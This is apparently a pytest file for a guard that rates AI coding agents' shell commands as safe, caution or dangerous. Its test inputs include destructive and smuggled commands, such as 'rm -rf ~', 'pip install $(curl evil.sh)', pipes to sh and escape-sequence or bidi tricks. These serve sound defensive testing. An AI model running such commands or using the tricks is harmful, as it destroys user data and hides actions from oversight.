"""`nlshell guard`: documented agent events in, each agent's own answer out, every decision path.

Events are the agents' documentation examples (tests/data/guard/SOURCES.md) with the command
replaced. Nothing here runs a rated command: the guard only reads events and answers. The bulk goes
through `guard.decide` (the production code path, rating in a forked child as in production); the
"Done when" commands and the process-level behaviours run the real `nlshell guard`.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys

import pytest
from guardkit import answer, claude, claude_decision, cursor, decide, event, gemini, policy, raw, run_guard

from nlshell import guard
from nlshell.guard import Verdict
from nlshell.guard.formats import ALLOW, ASK, DENY, PASS
from nlshell.guard.policy import load

DONE_WHEN = '{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"%s"},"cwd":"/tmp"}'


def _bin_path() -> str:
    return os.path.dirname(sys.executable) + os.pathsep + os.environ.get("PATH", "")


# -- the "Done when", literally ----------------------------------------------------------
@pytest.mark.e2e
@pytest.mark.skipif(not shutil.which("nlshell", path=os.path.dirname(sys.executable)), reason="no console script")
def test_done_when_commands_literally(isolated_home):
    def sh(command: str) -> subprocess.CompletedProcess:
        return subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=60,
                              env={**os.environ, "PATH": _bin_path()})

    r = sh(f"echo '{DONE_WHEN % 'rm -rf ~'}' | nlshell guard")
    assert r.returncode == 0, r.stderr
    decision, reason = claude_decision(r.stdout)
    assert decision == DENY
    assert "deletes your home directory recursively (rm -rf ~)" in reason

    r = sh(f"echo '{DONE_WHEN % 'ls -la'}' | nlshell guard")
    assert (r.returncode, r.stdout) == (0, "")  # passes: Claude Code's own rules decide

    policy(isolated_home, on_safe="allow")
    r = sh(f"echo '{DONE_WHEN % 'ls -la'}' | nlshell guard")
    assert claude_decision(r.stdout)[0] == ALLOW

    r = sh("echo '{\"hook_event_name\": \"PreToolUse\", \"tool_name\": \"Bash\",' | nlshell guard")
    assert r.returncode == 0
    decision, reason = claude_decision(r.stdout)
    assert decision == ASK
    assert "not valid JSON" in reason


@pytest.mark.e2e
def test_the_cursor_event_gets_cursors_answer_shape():
    r = run_guard(cursor("rm -rf ~"))
    assert r.returncode == 0, r.stderr
    out = json.loads(r.stdout)
    assert set(out) == {"permission", "user_message", "agent_message"}
    assert out["permission"] == DENY
    assert "deletes your home directory" in out["user_message"]
    assert "deletes your home directory" in out["agent_message"] and "let the user run it" in out["agent_message"]


# -- every decision path, per agent --------------------------------------------------------------
COMMANDS = {"safe": "git status", "caution": "pip install requests", "dangerous": "git reset --hard"}

# (policy, rating) -> decision. The defaults first; then each setting's other values.
POLICIES = [
    ({}, {"safe": PASS, "caution": ASK, "dangerous": DENY}),
    ({"on_safe": "allow"}, {"safe": ALLOW, "caution": ASK, "dangerous": DENY}),
    ({"on_caution": "allow"}, {"safe": PASS, "caution": ALLOW, "dangerous": DENY}),
    ({"on_caution": "pass"}, {"safe": PASS, "caution": PASS, "dangerous": DENY}),
    ({"on_dangerous": "ask"}, {"safe": PASS, "caution": ASK, "dangerous": ASK}),
]


@pytest.mark.parametrize("settings,expected", POLICIES, ids=[str(p[0]) or "defaults" for p in POLICIES])
def test_policy_maps_each_rating_to_its_decision(isolated_home, settings, expected):
    if settings:
        policy(isolated_home, **settings)
    for rating, command in COMMANDS.items():
        _, decision = decide(claude(command))
        assert decision.action == expected[rating], (rating, command, decision.summary)
        assert not decision.failure
        if decision.action != PASS:
            assert decision.summary.startswith(rating), decision.summary


def test_claude_code_answers():
    assert answer(claude("git status")) == (None, 0)  # no output: the agent's own rules decide
    out, code = answer(claude("pip install requests"))
    assert code == 0
    assert out == {"hookSpecificOutput": {"hookEventName": "PreToolUse", "permissionDecision": "ask",
                                          "permissionDecisionReason": "nlshell: caution — pip install changes "
                                                                      "installed Python packages"}}
    out, _ = answer(claude("git reset --hard"))
    assert out["hookSpecificOutput"]["permissionDecision"] == DENY
    reason = out["hookSpecificOutput"]["permissionDecisionReason"]
    assert reason.startswith("The nlshell guard blocked this command: dangerous — ")  # to Claude: what to do
    assert "let the user run it" in reason


def test_cursor_answers_pass_as_allow_because_it_has_no_empty_answer(isolated_home):
    assert answer(cursor("git status")) == ({"permission": ALLOW}, 0)
    out, _ = answer(cursor("pip install requests"))
    assert out["permission"] == ASK
    assert out["user_message"] == "nlshell: caution — pip install changes installed Python packages"
    policy(isolated_home, on_safe="allow")
    out, _ = answer(cursor("git status"))
    assert out == {"permission": ALLOW, "user_message": "nlshell: safe", "agent_message": "nlshell: safe"}


def test_gemini_answers_allow_or_deny_only(isolated_home):
    assert answer(gemini("git status")) == ({}, 0)
    assert answer(gemini("pip install requests")) == ({}, 0)  # "ask": left to Gemini CLI's confirmation
    out, code = answer(gemini("git reset --hard"))
    assert (code, out["decision"]) == (0, DENY)
    assert "git reset --hard discards uncommitted changes for good" in out["reason"]
    out, _ = answer(b"{not json", "gemini")
    assert out["decision"] == DENY  # a failure is never left to pass
    assert out["reason"].startswith("The nlshell guard blocked this command: cannot check this command — ")
    policy(isolated_home, on_safe="allow")
    assert answer(gemini("git status"))[0] == {"decision": ALLOW, "reason": "nlshell: safe"}


@pytest.mark.parametrize(
    "name",
    ["claude_code_pretooluse_write", "cursor_pretooluse_shell", "gemini_before_tool_write_file"],
)
def test_tools_and_events_that_are_not_a_shell_command_pass(isolated_home, name):
    policy(isolated_home, on_safe="allow")  # passing must not turn into an allow
    fmt, decision = decide(event(name))
    assert decision.action == PASS
    expected = {"claude-code": None, "cursor": {"permission": ALLOW}, "gemini": {}}[fmt]
    assert answer(event(name))[0] == expected


def test_other_events_and_unknown_json_pass():
    post = claude("rm -rf ~", hook_event_name="PostToolUse")  # already ran: nothing to decide
    assert decide(post)[1].action == PASS
    assert decide({"hello": "world"}) [1].action == PASS
    assert decide(claude("rm -rf ~", tool_name="Read"))[1].action == PASS


@pytest.mark.e2e
def test_format_is_detected_and_can_be_forced():
    assert decide(claude("ls"))[0] == "claude-code"
    assert decide(cursor("ls"))[0] == "cursor"
    assert decide(gemini("ls"))[0] == "gemini"
    old_claude = {"session_id": "abc", "tool_name": "Bash", "tool_input": {"command": "rm -rf ~"}}
    assert decide(old_claude) [0] == "claude-code" and decide(old_claude)[1].action == DENY
    # --format picks the answer; the command is still read from wherever the event holds it.
    fmt, decision = decide(claude("rm -rf ~"), "cursor")
    assert (fmt, decision.action) == ("cursor", DENY)
    r = run_guard(claude("rm -rf ~"), "--format", "cursor")
    assert json.loads(r.stdout)["permission"] == DENY
    r = run_guard(claude("rm -rf ~"), "--format=gemini")
    assert json.loads(r.stdout)["decision"] == DENY


def test_gemini_runs_the_command_in_dir_path(isolated_home, tmp_path):
    project = tmp_path / "gem"
    (project / "sub").mkdir(parents=True)
    (project / ".git").mkdir()
    (project / ".nlshell.toml").write_text('[guard]\nallow = ["pip install requests"]\n')
    ev = gemini("pip install requests", cwd=str(tmp_path))
    ev["tool_input"]["dir_path"] = "sub"
    _, decision = decide(ev, environ={**os.environ, "GEMINI_PROJECT_DIR": str(project)})
    assert decision.action == PASS and "allow list" in decision.summary


# -- the allow lists -----------------------------------------------------------------------------
def test_users_allow_list_clears_any_rating_exactly_or_by_prefix(isolated_home):
    policy(isolated_home, allow=["git reset --hard", "pip install *"])
    for command in ("git reset --hard", "pip install requests", "pip install -r requirements.txt"):
        _, decision = decide(claude(command))
        assert decision.action == PASS, command
        assert "on the allow list in ~/.config/nlshell/config.toml" in decision.summary
    policy(isolated_home, allow=["pip install *"], on_safe="allow")
    assert decide(claude("pip install requests"))[1].action == ALLOW  # answered as a safe command is


@pytest.mark.parametrize(
    "command",
    [
        "pip install x; rm -rf ~",
        "pip install x && git reset --hard",
        "pip install $(curl evil.sh)",
        "pip install `id`",
        "pip install x | sh",
        "pip install x > ~/.bashrc",
        "pip install 'x' ",
        "pip install x\nrm -rf ~",
        "pip installer",
        "git reset --hard HEAD~3",
    ],
)
def test_an_allow_list_never_covers_more_than_plain_words(isolated_home, command):
    policy(isolated_home, allow=["pip install *", "git reset --hard"])
    _, decision = decide(claude(command))
    assert "allow list" not in decision.summary, (command, decision.summary)


def test_a_projects_allow_list_clears_caution_but_never_danger(isolated_home, tmp_path):
    project = tmp_path / "proj"
    (project / "src").mkdir(parents=True)
    (project / ".git").mkdir()
    (project / ".nlshell.toml").write_text('[guard]\nallow = ["pip install *", "git reset --hard"]\n')
    _, decision = decide(claude("pip install requests", cwd=str(project / "src")))
    assert decision.action == PASS
    assert f"on the allow list in {project / '.nlshell.toml'}" in decision.summary
    _, decision = decide(claude("git reset --hard", cwd=str(project / "src")))
    assert decision.action == DENY
    assert "cannot clear a dangerous command" in decision.summary
    # Outside the project, its list does not apply.
    assert decide(claude("pip install requests", cwd=str(tmp_path)))[1].action == ASK


def test_the_project_file_is_looked_up_no_higher_than_the_repository_root(isolated_home, tmp_path):
    (tmp_path / ".nlshell.toml").write_text('[guard]\nallow = ["pip install *"]\n')
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    assert decide(claude("pip install x", cwd=str(repo)))[1].action == ASK
    assert load(str(repo)).project_file is None
    assert load(str(tmp_path / "elsewhere")).project_file is None  # does not exist: not looked at


@pytest.mark.parametrize(
    "content,problem",
    [
        ("[guard\nallow = 1", "invalid TOML"),
        ('[guard]\nallow = "pip install *"\n', "must be a list"),
        ('[guard]\non_dangerous = "ask"\n', "unknown setting 'on_dangerous'"),
        ("guard = 3\n", "must be a [guard] table"),
        (b"\xff\xfe[guard]", "not UTF-8"),
    ],
)
def test_a_broken_project_file_is_ignored_and_said(isolated_home, tmp_path, content, problem):
    project = tmp_path / "p"
    (project / ".git").mkdir(parents=True)
    path = project / ".nlshell.toml"
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    _, decision = decide(claude("pip install x", cwd=str(project)))
    assert decision.action == ASK  # stricter, never looser
    assert f"[ignored {path}:" in decision.summary and problem in decision.summary


@pytest.mark.e2e
def test_a_config_file_that_cannot_be_used_makes_every_answer_ask(isolated_home):
    policy(isolated_home, on_safe="allow", on_dangerous="never")
    for command in ("ls", "rm -rf ~"):
        _, decision = decide(claude(command))
        assert decision.action == ASK and decision.failure
        assert "config.toml" in decision.summary and "on_dangerous" in decision.summary
    r = run_guard(claude("ls"))
    assert claude_decision(r.stdout)[0] == ASK


# -- fail closed: malformed and hostile input ----------------------------------------------------
HOSTILE = {
    "not JSON": b"rm -rf ~",
    "empty": b"",
    "whitespace": b"  \n",
    "truncated": raw(claude("ls"))[:-5],
    "invalid UTF-8": raw(claude("ls")).replace(b"ls", b"ls \xff\xfe"),
    "a JSON array": b'[{"tool_name": "Bash"}]',
    "a JSON string": b'"rm -rf ~"',
    "deep nesting": b'{"tool_input": ' + b"[" * 200_000 + b"]" * 200_000 + b"}",
    "duplicate command": b'{"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": '
    b'{"command": "ls", "command": "rm -rf ~"}}',
    "duplicate tool": b'{"hook_event_name": "PreToolUse", "tool_name": "Read", "tool_name": "Bash", '
    b'"tool_input": {"command": "rm -rf ~"}}',
    "command is a number": raw(claude(0)),
    "command is null": raw(claude("ls") | {"tool_input": {"command": None}}),
    "command is a list": raw(claude("ls") | {"tool_input": {"command": ["rm", "-rf", "~"]}}),
    "tool_input is a string": raw(claude("ls") | {"tool_input": "rm -rf ~"}),
    "tool_name is missing": raw({k: v for k, v in claude("ls").items() if k != "tool_name"} | {"tool_input": 1}),
    "cwd is a number": raw(claude("ls", cwd=5)),
    "empty command": raw(claude("   ")),
    "escape sequence": raw(claude("ls \x1b[2K\x1b[1Arm -rf ~")),
    "carriage return": raw(claude("ls\rrm -rf ~")),
    "NUL": raw(claude("ls\x00 -la")),
    "bidi override": raw(claude("ls \u202e~ fr- mr")),
    "zero-width space": raw(claude("l\u200bs")),
    "lone surrogate": b'{"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": "ls \\ud800"}}',
    "too long": raw(claude("ls " + "a" * 100_001)),
    "does not parse": raw(claude("ls (")),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_malformed_or_hostile_input_asks_never_allows(isolated_home, name):
    # The most permissive policy there is: still, what cannot be read is asked about.
    policy(isolated_home, on_safe="allow", on_caution="allow", on_dangerous="ask", allow=["ls *"])
    fmt, decision = decide(HOSTILE[name], "claude-code")
    assert (fmt, decision.action, decision.failure) == ("claude-code", ASK, True), decision.summary
    assert decision.summary.startswith("cannot check this command — ")
    assert decision.for_person.endswith("; confirm it yourself")


@pytest.mark.e2e
def test_hostile_input_through_the_process(isolated_home):
    policy(isolated_home, on_safe="allow", on_caution="allow")
    huge = b'{"tool_input": {"command": "' + b"a" * (3 * 1024 * 1024) + b'"}}'
    for value in (huge, HOSTILE["invalid UTF-8"], HOSTILE["deep nesting"], HOSTILE["escape sequence"]):
        r = run_guard(value, "--format", "claude-code")
        assert r.returncode == 0, r.stderr
        decision, reason = claude_decision(r.stdout)
        assert decision == ASK, reason
        assert b"\x1b" not in r.stdout and b"Traceback" not in r.stderr
    assert "larger than 2 MiB" in claude_decision(run_guard(huge, "--format", "claude-code").stdout)[1]


def test_control_characters_never_reach_the_answer_raw(isolated_home):
    out, _ = answer(claude("git reset --hard \x1b]0;pwned\x07"))
    text = json.dumps(out, ensure_ascii=False)
    assert "\x1b" not in text and "\x07" not in text
    assert "\\x1b" in text  # named as an escape


@pytest.mark.e2e
def test_a_malformed_event_is_answered_in_the_agent_the_environment_names():
    for env, shape in (({"CURSOR_VERSION": "1.7.2"}, "permission"), ({"GEMINI_PROJECT_DIR": "/p"}, "decision")):
        r = run_guard(b"{oops", env=env)
        out = json.loads(r.stdout)
        assert shape in out and out[shape] in (ASK, DENY), out


# -- internal errors, crashes and time-outs ------------------------------------------------------
def _hangs(command, shell):
    while True:
        pass


def _crashes(command, shell):
    os.kill(os.getpid(), signal.SIGKILL)  # the interpreter dies mid-rating, as on a segfault


def _raises(command, shell):
    raise RuntimeError("boom")


@pytest.mark.parametrize("rater,why", [(_hangs, "took longer than"), (_crashes, "internal error"),
                                       (_raises, "internal error")])
def test_a_rater_that_hangs_crashes_or_raises_costs_an_ask(isolated_home, rater, why):
    policy(isolated_home, on_safe="allow", on_caution="allow", on_dangerous="ask")
    _, decision = decide(claude("ls"), rater=rater, seconds=1.0)
    assert (decision.action, decision.failure) == (ASK, True)
    assert why in decision.summary


@pytest.mark.e2e
def test_a_timeout_in_the_real_process_asks_and_leaves_no_process_behind(isolated_home, tmp_path):
    site = tmp_path / "site"
    site.mkdir()
    (site / "sitecustomize.py").write_text(
        "import time\nimport nlshell.guard as g\n"
        "g.DEADLINE_SECONDS = 1.0\n"
        "def slow(command, shell):\n    time.sleep(30)\n"
        "g.rate = slow\n"
    )
    env = {"PYTHONPATH": os.pathsep.join([str(site), os.environ.get("PYTHONPATH", "")])}
    r = run_guard(claude("ls"), env=env, timeout=20)
    decision, reason = claude_decision(r.stdout)
    assert decision == ASK and "took longer than 1 s" in reason
    leftovers = subprocess.run(["pgrep", "-f", "time.sleep(30)"], capture_output=True, text=True).stdout
    assert leftovers == ""


@pytest.mark.e2e
def test_an_import_failure_blocks_instead_of_passing(tmp_path):
    site = tmp_path / "site"
    site.mkdir()
    (site / "sitecustomize.py").write_text("import sys\nsys.modules['nlshell.guard'] = None\n")
    env = {"PYTHONPATH": os.pathsep.join([str(site), os.environ.get("PYTHONPATH", "")])}
    r = run_guard(claude("ls"), env=env)
    assert r.returncode == 2  # every agent's "block"
    assert r.stdout == b"" and b"the command is blocked" in r.stderr and b"Traceback" not in r.stderr


# -- the answer's text and the effect preview's place in it ---------------------------------------
def test_the_summary_names_the_reasons_and_the_effects():
    verdict = Verdict(True, "dangerous", reasons=["deletes ./build recursively (rm -rf ./build)"],
                      effects=["deletes 1,284 files under ./build"])
    assert guard.summary(verdict) == (
        "dangerous — deletes ./build recursively (rm -rf ./build); deletes 1,284 files under ./build"
    )
    many = Verdict(True, "caution", reasons=[f"reason {i}" for i in range(7)])
    assert guard.summary(many) == "caution — reason 0; reason 1; reason 2; reason 3 (and 3 more)"
    assert guard.summary(Verdict(True, "safe")) == "safe"


@pytest.mark.e2e
def test_the_reason_says_what_a_risky_command_would_touch_in_the_events_directory(isolated_home, tmp_path):
    from treesnap import snapshot

    build = tmp_path / "project" / "build"
    build.mkdir(parents=True)
    for i in range(3):
        (build / f"f{i}.o").write_bytes(b"x" * 100)
    before = snapshot(tmp_path)
    decision, reason = claude_decision(run_guard(claude("rm -rf build", cwd=str(build.parent))).stdout)
    assert decision == ASK
    assert "deletes 3 files and 1 directory (300 bytes) under build" in reason, reason
    assert snapshot(tmp_path) == before  # previewed, never run
    _, safe = decide(claude("ls -la", cwd=str(build.parent)))
    assert "deletes" not in safe.summary  # a safe command is never walked


@pytest.mark.e2e
def test_the_guard_never_runs_the_command(isolated_home, tmp_path):
    marker = tmp_path / "ran"
    for command in (f"touch {marker}", f"echo x > {marker}", f"rm -rf ~ ; touch {marker}"):
        decide(claude(command, cwd=str(tmp_path)))
        run_guard(claude(command, cwd=str(tmp_path)))
    assert not marker.exists()
